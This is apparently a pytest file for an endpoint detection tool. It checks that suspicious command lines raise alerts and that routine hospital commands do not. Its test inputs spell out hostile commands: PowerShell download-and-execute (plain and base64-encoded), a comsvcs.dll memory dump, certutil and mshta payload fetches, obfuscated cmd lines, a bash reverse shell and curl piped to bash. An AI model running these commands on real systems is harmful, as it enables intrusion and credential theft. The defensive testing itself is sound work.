"""Command lines: what they can do, what hides them, and what hospitals do every day."""

from __future__ import annotations

import base64

import pytest

from tests.detect.behaviour.account_rows import DAY, HOUR, tell
from tests.detect.behaviour.endpoint_rows import POWERSHELL, SYSTEM32, start
from tocsin.detect.behaviour import command_line, command_model
from tocsin.detect.behaviour.commands import command


def coded(text: str) -> str:
    """Give a coded command of PowerShell."""
    return (
        "powershell.exe -NoProfile -NonInteractive -EncodedCommand "
        + base64.b64encode(text.encode("utf-16-le")).decode()
    )


FIRES = {
    "load and run": (
        POWERSHELL,
        "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')",
    ),
    "the same, coded": (POWERSHELL, coded("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')")),
    "dump": (
        f"{SYSTEM32}rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Windows\\Temp\\x.dmp full",
    ),
    "fetch with certutil": (f"{SYSTEM32}certutil.exe", "certutil -urlcache -split -f http://192.0.2.7/a.exe a.exe"),
    "script from the web": (f"{SYSTEM32}mshta.exe", "mshta.exe https://cdn.example.net/a.hta"),
    "carets": (f"{SYSTEM32}cmd.exe", "cmd /c p^o^w^e^r^s^h^e^l^l -c calc & c^e^r^t^u^t^i^l -decode a b"),
    "pieces": (
        f"{SYSTEM32}cmd.exe",
        "cmd /v /c set a=pow&& set b=ersh&& set c=ell&& call %a:~0,3%%b:~0,4%%c:~0,3% -c calc",
    ),
    "reverse shell": ("/bin/bash", "bash -c bash -i >& /dev/tcp/192.0.2.7/443 0>&1"),
    "piped from the web": ("/bin/sh", "sh -c curl -s http://192.0.2.7/a.sh | bash"),
}
QUIET = {
    "a tool's coded command": (POWERSHELL, coded("Get-Service | Where-Object {$_.Status -eq 'Running'}")),
    "a script": (
        POWERSHELL,
        "powershell.exe -ExecutionPolicy Bypass -File \\\\chu-exemple.fr\\NETLOGON\\imprimantes.ps1",
    ),
    "a control panel": (f"{SYSTEM32}rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL desk.cpl"),
    "a network drive": (f"{SYSTEM32}net.exe", "net use X: \\\\srv-fichiers\\commun /persistent:no"),
    "a copy": (f"{SYSTEM32}cmd.exe", 'cmd /c copy /Y "C:\\Program Files\\Labo\\out\\r12.hl7" "\\\\srv-labo\\entree"'),
    "certificates": (f"{SYSTEM32}certutil.exe", "certutil -verifystore my"),
    "registering a control": (f"{SYSTEM32}regsvr32.exe", 'regsvr32 /s "C:\\Program Files (x86)\\Labo\\vue.ocx"'),
    "cron": ("/bin/sh", "/bin/sh -c run-parts --report /etc/cron.hourly"),
    "a browser": ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe --type=renderer --lang=fr"),
    "nothing": (f"{SYSTEM32}cmd.exe", ""),
}


@pytest.mark.parametrize("name", FIRES)
def test_fires(name: str) -> None:
    signs = tell(command_line, [start(0, *FIRES[name])])
    assert len(signs) == 1
    assert signs[0].decades >= 0.8


@pytest.mark.parametrize("name", QUIET)
def test_quiet(name: str) -> None:
    assert tell(command_line, [start(0, *QUIET[name])]) == []


def test_a_coded_command_is_shown_decoded() -> None:
    (sign,) = tell(command_line, [start(0, *FIRES["the same, coded"])])
    assert "DownloadString" in sign.facts["hidden"]


def test_what_the_site_does_daily_is_no_news() -> None:
    rows = [start(n * HOUR, *FIRES["fetch with certutil"], host=f"pc-{n}") for n in range(40)]
    assert len(tell(command_line, rows)) <= command_line.KNOWN_UNITS + 1


def test_numbers_and_names_make_no_difference() -> None:
    one = command("taskkill.exe", "taskkill /f /pid 1234")
    assert one.key == command("TASKKILL.EXE", "taskkill /F /PID 77").key
    assert one.key != command("taskkill.exe", "taskkill /f /im labo.exe").key


def test_many_questions() -> None:
    asked = ("whoami /all", "net user", "ipconfig /all", "systeminfo", "tasklist /svc", "netstat -ano", "arp -a")
    rows = [start(n / 2, f"{SYSTEM32}{line.split()[0]}.exe", line) for n, line in enumerate(asked)]
    signs = tell(command_line, rows)
    assert [sign.facts["count"] for sign in signs] == ["6"]
    assert tell(command_line, rows[:5]) == []
    assert (
        tell(
            command_line,
            [
                row._replace(time_us=row.time_us * 2)
                for row in [start(n * DAY, r.image, r.command) for n, r in enumerate(rows)]
            ],
        )
        == []
    )


def test_the_model_knows_what_is_everyday() -> None:
    words = command_model.words()
    usual = command("svchost.exe", "sc query spooler")
    assert command_model.total(words.surprises("sc.exe", command("sc.exe", "sc query spooler").words)) < 5
    assert command_model.total(words.surprises("sc.exe", ("zz", "qq", "kk", "vv"))) > 8
    assert usual.words == ()


def test_model_is_small() -> None:
    assert len(command_model.words().number) < 1 << command_model.BITS


def test_a_flood_of_lines_stays_within_bounds() -> None:
    memory = command_line.memory()
    rows = [
        start(n / 100, f"{SYSTEM32}cmd.exe", f"cmd /c certutil -urlcache -f http://192.0.2.7/{n} w{n}x", host=f"h{n}")
        for n in range(2_000)
    ]
    tell(command_line, rows, memory)
    assert len(memory.contexts) <= command_line.CONTEXTS
    assert len(memory.told) <= command_line.TOLD
